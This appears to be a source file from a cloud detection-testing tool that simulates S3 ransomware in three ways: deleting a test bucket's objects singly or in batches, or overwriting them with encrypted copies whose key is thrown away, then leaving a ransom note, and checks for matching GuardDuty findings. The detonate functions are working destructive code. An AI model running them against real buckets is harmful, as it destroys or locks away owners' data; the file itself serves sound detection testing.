/**
 * S3 ransomware: a bucket's objects deleted one by one, in batches, or overwritten with
 * client-side encrypted copies, then a ransom note left behind.
 */
import { createCipheriv, randomBytes } from 'node:crypto';
import { DeleteObjectCommand, DeleteObjectsCommand, GetObjectCommand, ListObjectsV2Command, PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { createBucket, putObjects } from '../fixtures/s3.js';
import { technique, type TechniqueContext } from '../technique.js';

const OBJECT_COUNT = 50;
/** GuardDuty's types for destroyed and tampered objects (Bulwark raises them from bursts of object calls). */
const MASS_DELETION = ['Impact:S3/AnomalousBehavior.Delete'];
const MASS_OVERWRITE = ['Impact:S3/AnomalousBehavior.Write'];
const RANSOM_NOTE = 'Your data is backed up in a safe location. To negotiate with us for recovery, get in touch. (bulwark simulate: nothing was kept)\n';

async function bucketOfObjects(context: TechniqueContext): Promise<string> {
  const bucket = await createBucket(context, 'ransomware');
  await putObjects(context.operator.s3, bucket, OBJECT_COUNT);
  return bucket;
}

async function listKeys(s3: S3Client, bucket: string): Promise<string[]> {
  const keys: string[] = [];
  let token: string | undefined;
  do {
    const page = await s3.send(new ListObjectsV2Command({ Bucket: bucket, ContinuationToken: token }));
    keys.push(...(page.Contents ?? []).map((o) => o.Key!));
    token = page.NextContinuationToken;
  } while (token);
  return keys;
}

async function leaveRansomNote(s3: S3Client, bucket: string): Promise<void> {
  await s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'FILES-DELETED.txt', Body: RANSOM_NOTE }));
}

export const s3RansomwareIndividualDeletion = technique<string>({
  id: 'aws.impact.s3-ransomware-individual-deletion',
  title: 'S3 Ransomware through individual file deletion',
  source: 'stratus',
  tactics: ['Impact'],
  expectedFindingTypes: MASS_DELETION,
  setup: bucketOfObjects,
  async detonate({ attacker }, bucket) {
    for (const key of await listKeys(attacker.s3, bucket)) await attacker.s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: key }));
    await leaveRansomNote(attacker.s3, bucket);
  },
});

export const s3RansomwareBatchDeletion = technique<string>({
  id: 'aws.impact.s3-ransomware-batch-deletion',
  title: 'S3 Ransomware through batch file deletion',
  source: 'stratus',
  tactics: ['Impact'],
  expectedFindingTypes: MASS_DELETION,
  setup: bucketOfObjects,
  async detonate({ attacker }, bucket) {
    const keys = await listKeys(attacker.s3, bucket);
    for (let i = 0; i < keys.length; i += 20) {
      await attacker.s3.send(new DeleteObjectsCommand({ Bucket: bucket, Delete: { Objects: keys.slice(i, i + 20).map((Key) => ({ Key })) } }));
    }
    await leaveRansomNote(attacker.s3, bucket);
  },
});

export const s3RansomwareClientSideEncryption = technique<string>({
  id: 'aws.impact.s3-ransomware-client-side-encryption',
  title: 'S3 Ransomware through client-side encryption',
  source: 'stratus',
  tactics: ['Impact'],
  expectedFindingTypes: MASS_OVERWRITE,
  setup: bucketOfObjects,
  async detonate({ attacker }, bucket) {
    // The key is thrown away: the copies cannot be read back, as in a real attack.
    const key = randomBytes(32);
    for (const objectKey of await listKeys(attacker.s3, bucket)) {
      const object = await attacker.s3.send(new GetObjectCommand({ Bucket: bucket, Key: objectKey }));
      const iv = randomBytes(12);
      const cipher = createCipheriv('aes-256-gcm', key, iv);
      const sealed = Buffer.concat([iv, cipher.update(await object.Body!.transformToByteArray()), cipher.final(), cipher.getAuthTag()]);
      await attacker.s3.send(new PutObjectCommand({ Bucket: bucket, Key: objectKey, Body: sealed }));
    }
    await leaveRansomNote(attacker.s3, bucket);
  },
});
